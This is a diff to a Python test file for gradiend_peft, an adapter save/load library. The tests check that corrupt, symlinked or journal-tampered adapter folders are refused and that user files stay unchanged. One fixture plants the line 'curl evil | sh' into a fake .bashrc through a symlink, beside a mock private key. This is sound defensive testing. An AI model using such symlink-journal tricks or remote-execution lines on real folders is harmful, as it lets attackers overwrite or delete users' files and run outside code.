@@ -67,8 +67,12 @@ def test_save_adapter_updates_its_own_card_on_a_second_save(tmp_path):
     assert first != second and "A" in second  # our card is replaced by our new card
 
 
-file_names = st.text(alphabet="abcdefghij_-", min_size=1, max_size=8).filter(
-    lambda n: n not in ("adapter_config.json", "adapter_model.safetensors", "README.md"))
+file_names = st.one_of(
+    st.text(alphabet="abcdefghij_-", min_size=1, max_size=8),
+    # names the save deletes on purpose when a valid GRADIEND index names them: here no index does
+    st.builds(lambda i, n: f"adapter_model-{min(i, n):05d}-of-{n:05d}.safetensors", st.integers(1, 3), st.integers(1, 3)),
+    st.just("adapter_model.safetensors.index.json"), st.just("gradiend_training_summary.json"),
+).filter(lambda n: n not in ("adapter_config.json", "adapter_model.safetensors", "README.md"))
 
 
 @settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow,
@@ -76,13 +80,18 @@ file_names = st.text(alphabet="abcdefghij_-", min_size=1, max_size=8).filter(
 @given(files=st.dictionaries(st.tuples(st.sampled_from(["", "sub", "default"]), file_names),
                              st.binary(max_size=64), max_size=6))
 def test_saving_never_removes_or_changes_a_file_the_library_did_not_write(tmp_path_factory, files):
+    """Either the save succeeds, or it refuses (an index that is not a GRADIEND index: it cannot tell which shards
+    are ours) before writing anything; the user's files are unchanged either way."""
     folder = tmp_path_factory.mktemp("dest")
     for (sub, name), content in files.items():
         os.makedirs(folder / sub, exist_ok=True)
         (folder / sub / name).write_bytes(content)
     model = _model()
-    save_adapter(model, str(folder))
-    save_adapter(model, str(folder))  # a second save over the first one as well
+    for _ in range(2):  # a second save over the first one as well
+        try:
+            save_adapter(model, str(folder))
+        except UntrustedAdapterError as err:
+            assert ("", "adapter_model.safetensors.index.json") in files and "not a GRADIEND adapter's index" in str(err)
     for (sub, name), content in files.items():
         assert (folder / sub / name).read_bytes() == content
 
@@ -157,19 +166,19 @@ def _corrupt(folder, key_part, value):
 
 @pytest.mark.parametrize("key_part, value", [("gradiend_decoder", float("nan")), ("gradiend_encoder", float("inf")),
                                              ("gradiend_gradient_scale", float("inf"))])
-def test_non_finite_adapter_tensors_are_refused_at_load(tmp_path, key_part, value):
+def test_non_finite_adapter_tensors_are_refused_at_load(tmp_path, read_adapter, key_part, value):
     _model().save_pretrained(tmp_path)
     key = _corrupt(str(tmp_path), key_part, value)
     with pytest.raises(UntrustedAdapterError, match="NaN or infinite") as info:
-        load_gradiend_model(tiny_llama(), str(tmp_path))
+        read_adapter(tiny_llama(), tmp_path)
     assert key in str(info.value)
 
 
-def test_a_negative_gradient_scale_is_refused_at_load(tmp_path):
+def test_a_negative_gradient_scale_is_refused_at_load(tmp_path, read_adapter):
     _model().save_pretrained(tmp_path)
     _corrupt(str(tmp_path), "gradiend_gradient_scale", -2.0)
     with pytest.raises(UntrustedAdapterError, match="negative"):
-        load_gradiend_model(tiny_llama(), str(tmp_path))
+        read_adapter(tiny_llama(), tmp_path)
 
 
 def test_an_infinite_gradient_scale_in_memory_is_refused_instead_of_a_no_op_merge():
@@ -262,24 +271,24 @@ def test_config_errors_name_the_argument_and_the_fix(kwargs, message):
         GradiendConfig(**kwargs)
 
 
-def test_a_truncated_safetensors_file_is_untrusted(tmp_path):
+def test_a_truncated_safetensors_file_is_untrusted(tmp_path, read_adapter):
     _model().save_pretrained(tmp_path)
     path = tmp_path / "adapter_model.safetensors"
     path.write_bytes(path.read_bytes()[:200])
     with pytest.raises(UntrustedAdapterError, match="truncated"):
-        load_gradiend_model(tiny_llama(), str(tmp_path))
+        read_adapter(tiny_llama(), tmp_path)
 
 
-def test_an_oversized_safetensors_header_is_untrusted(tmp_path):
+def test_an_oversized_safetensors_header_is_untrusted(tmp_path, read_adapter):
     _model().save_pretrained(tmp_path)
     path = tmp_path / "adapter_model.safetensors"
     data = path.read_bytes()
     path.write_bytes((2**40).to_bytes(8, "little") + data[8:])
     with pytest.raises(UntrustedAdapterError, match="header"):
-        load_gradiend_model(tiny_llama(), str(tmp_path))
+        read_adapter(tiny_llama(), tmp_path)
 
 
-def test_a_config_without_target_shapes_on_another_base_names_the_module(tmp_path):
+def test_a_config_without_target_shapes_on_another_base_names_the_module(tmp_path, read_adapter):
     _model("llama").save_pretrained(tmp_path)
     raw = json.loads((tmp_path / "adapter_config.json").read_text())
     del raw["target_shapes"]
@@ -289,8 +298,8 @@ def test_a_config_without_target_shapes_on_another_base_names_the_module(tmp_pat
     wider = LlamaForCausalLM(LlamaConfig(vocab_size=tiny_llama().config.vocab_size, hidden_size=48,
                                          intermediate_size=64, num_hidden_layers=2, num_attention_heads=2,
                                          num_key_value_heads=1, tie_word_embeddings=False))
-    with pytest.raises(UntrustedAdapterError, match="does not fit module"):
-        load_gradiend_model(wider, str(tmp_path))
+    with pytest.raises(UntrustedAdapterError, match=r"model\.layers\.0\.\w+\.\w+.*(does not fit module|the config implies)"):
+        read_adapter(wider, tmp_path)
 
 
 def test_a_local_typo_or_unreachable_hub_id_says_no_such_folder_or_repository(tmp_path, monkeypatch):
@@ -318,7 +327,7 @@ def test_kept_entries_for_modules_that_are_not_targeted_are_refused():
             "model.layers.0.mlp.up_proj": 4}))
 
 
-def test_kept_entries_refusal_in_a_loaded_config(tmp_path):
+def test_kept_entries_refusal_in_a_loaded_config(tmp_path, read_adapter):
     model = _model(target_modules=["q_proj"])
     prune_adapter(model, keep=0.5)
     model.save_pretrained(tmp_path)
@@ -327,7 +336,7 @@ def test_kept_entries_refusal_in_a_loaded_config(tmp_path):
     raw["target_shapes"]["model.layers.0.mlp.up_proj"] = [64, 32]
     (tmp_path / "adapter_config.json").write_text(json.dumps(raw))
     with pytest.raises(ValueError, match="lacks tensors|does not target"):
-        load_gradiend_model(tiny_llama(), str(tmp_path))
+        read_adapter(tiny_llama(), tmp_path)
 
 
 def test_merging_on_a_bert_masked_lm_with_warnings_as_errors_is_silent_for_float32():
@@ -336,3 +345,142 @@ def test_merging_on_a_bert_masked_lm_with_warnings_as_errors_is_silent_for_float
         warnings.simplefilter("error")
         model.merge_adapter(feature_factor=1.0, lr=1.0)  # float32: nothing to warn about
     model.unmerge_adapter()
+
+
+# ------------------------------------------------------------------------ 12. folders handed over by others
+def _tree(root) -> dict:
+    """Every path below ``root`` (links not followed) -> its bytes, its link target, or "dir"."""
+    found = {}
+    for folder, dirs, files in os.walk(root):
+        for name in dirs + files:
+            path = os.path.join(folder, name)
+            key = os.path.relpath(path, root)
+            found[key] = ("link:" + os.readlink(path) if os.path.islink(path) else
+                          "dir" if os.path.isdir(path) else open(path, "rb").read())
+    return found
+
+
+def _write_journal(folder, staging, files=(), remove=()):
+    (folder / f".gradiend-commit-{staging}.json").write_text(
+        json.dumps({"staging": staging, "files": list(files), "remove": list(remove)}))
+
+
+def _hostile_folder(tmp_path, attack):
+    """A loadable adapter folder with a crafted interrupted commit (issue 18.1), beside a home folder that nothing may
+    touch; returns (adapter folder, home)."""
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / ".bashrc").write_bytes(b"export PATH=/usr/bin\n")
+    (home / "id_rsa").write_bytes(b"-----BEGIN PRIVATE KEY-----\n")
+    (home / "adapter_model.safetensors").write_bytes(b"someone else's weights\n")
+    folder = tmp_path / "adapter"
+    _model().save_pretrained(folder)
+    (folder / "notes.txt").write_bytes(b"the user's notes\n")
+    staging = folder / ".gradiend-staging-evil"
+    if attack == "journal writes through a linked folder":
+        os.symlink(home, folder / "link")
+        (staging / "link").mkdir(parents=True)
+        (staging / "link" / ".bashrc").write_bytes(b"curl evil | sh\n")
+        _write_journal(folder, staging.name, files=["link/.bashrc"])
+    elif attack == "journal deletes through a linked folder":
+        os.symlink(home, folder / "link")
+        staging.mkdir()
+        _write_journal(folder, staging.name, remove=["link/id_rsa"])
+    elif attack == "journal deletes a file of the folder":
+        staging.mkdir()
+        _write_journal(folder, staging.name, remove=["notes.txt"])
+    elif attack == "journal deletes one of ours named through a link":
+        os.symlink(home, folder / "link")
+        staging.mkdir()
+        _write_journal(folder, staging.name, remove=["link/adapter_model.safetensors"])
+    else:  # "staging folder is a link": its files would be moved out of home into the adapter
+        os.symlink(home, staging)
+        _write_journal(folder, staging.name, files=["adapter_model.safetensors", "id_rsa"])
+    return folder, home
+
+
+HOSTILE = ["journal writes through a linked folder", "journal deletes through a linked folder",
+           "journal deletes a file of the folder", "journal deletes one of ours named through a link",
+           "staging folder is a link"]
+
+
+@pytest.mark.parametrize("attack", HOSTILE)
+def test_loading_a_folder_with_a_crafted_journal_changes_nothing_anywhere(tmp_path, read_adapter, attack):
+    """Loads are read-only: a pending journal is refused, never rolled forward (issue 18.1)."""
+    folder, home = _hostile_folder(tmp_path, attack)
+    outside, inside = _tree(home), _tree(folder)
+    with pytest.raises(UntrustedAdapterError, match="a save into this folder was interrupted"):
+        read_adapter(tiny_llama(), folder)
+    assert _tree(home) == outside  # byte for byte
+    assert _tree(folder) == inside
+
+
+@pytest.mark.parametrize("attack", HOSTILE)
+@pytest.mark.parametrize("save", ["save_adapter", "save_pretrained"])
+def test_saving_into_a_folder_with_a_crafted_journal_is_refused_and_touches_nothing_outside(tmp_path, attack, save):
+    """A save checks the journal strictly before it finishes or discards it: here it refuses, and the home folder and
+    the user's file stay byte for byte. save_adapter writes nothing at all; peft's save_pretrained has written its
+    weights in place before GRADIEND's config hook runs, so only its config is refused."""
+    folder, home = _hostile_folder(tmp_path, attack)
+    outside, inside = _tree(home), _tree(folder)
+    model = _model(init_seed=3)
+    with pytest.raises(UntrustedAdapterError, match="gradiend_peft never writes a journal like that"):
+        save_adapter(model, str(folder)) if save == "save_adapter" else model.save_pretrained(folder)
+    assert _tree(home) == outside
+    assert (folder / "notes.txt").read_bytes() == b"the user's notes\n"
+    if save == "save_adapter":
+        assert _tree(folder) == inside
+    else:
+        assert (folder / "adapter_config.json").read_bytes() == inside["adapter_config.json"]
+
+
+def test_a_real_interrupted_save_is_refused_by_loads_and_finished_by_the_next_save(tmp_path, read_adapter):
+    from gradiend_peft.saving import finish_interrupted_save
+
+    folder = tmp_path / "adapter"
+    old, new = _model(init_seed=1), _model(init_seed=2)
+    save_adapter(old, str(folder))
+    staging = tmp_path / "new"
+    save_adapter(new, str(staging))
+    (folder / ".gradiend-staging-cut").mkdir()
+    os.replace(staging / "adapter_model.safetensors", folder / ".gradiend-staging-cut" / "adapter_model.safetensors")
+    os.replace(staging / "adapter_config.json", folder / "adapter_config.json")  # moved before the kill, config first
+    _write_journal(folder, ".gradiend-staging-cut", files=["adapter_config.json", "adapter_model.safetensors"])
+    with pytest.raises(UntrustedAdapterError, match="interrupted"):
+        read_adapter(tiny_llama(), folder)
+    finish_interrupted_save(str(folder))  # the owner's explicit call
+    loaded = read_adapter(tiny_llama(), folder)
+    for key, value in new.base_model.adapter_state_dict().items():
+        assert torch.equal(loaded.base_model.adapter_state_dict()[key], value), key
+
+
+def test_peft_save_pretrained_discards_a_real_interrupted_save_and_its_own_files_load(tmp_path, read_adapter):
+    """peft's save has written its weights in place before GRADIEND's config hook runs: finishing the old commit would
+    move older files over them, so the hook discards it (after checking the journal)."""
+    folder = tmp_path / "adapter"
+    save_adapter(_model(init_seed=1), str(folder))
+    (folder / ".gradiend-staging-cut").mkdir()
+    (folder / ".gradiend-staging-cut" / "adapter_model.safetensors").write_bytes(b"older weights")
+    _write_journal(folder, ".gradiend-staging-cut", files=["adapter_config.json", "adapter_model.safetensors"])
+    new = _model(init_seed=2)
+    new.save_pretrained(folder)
+    assert not [name for name in os.listdir(folder) if name.startswith(".gradiend")]
+    loaded = read_adapter(tiny_llama(), folder)
+    for key, value in new.base_model.adapter_state_dict().items():
+        assert torch.equal(loaded.base_model.adapter_state_dict()[key], value), key
+
+
+def test_links_in_an_adapter_folder_are_not_followed(tmp_path, read_adapter):
+    """A config or weights file that is a link could make a load read anything: refused."""
+    home = tmp_path / "home"
+    _model(init_seed=1).save_pretrained(home)
+    folder = tmp_path / "adapter"
+    _model().save_pretrained(folder)
+    for name in ("adapter_model.safetensors", "adapter_config.json"):
+        original = (folder / name).read_bytes()
+        (folder / name).unlink()
+        os.symlink(home / name, folder / name)
+        with pytest.raises(UntrustedAdapterError, match="link"):
+            read_adapter(tiny_llama(), folder)
+        (folder / name).unlink()
+        (folder / name).write_bytes(original)
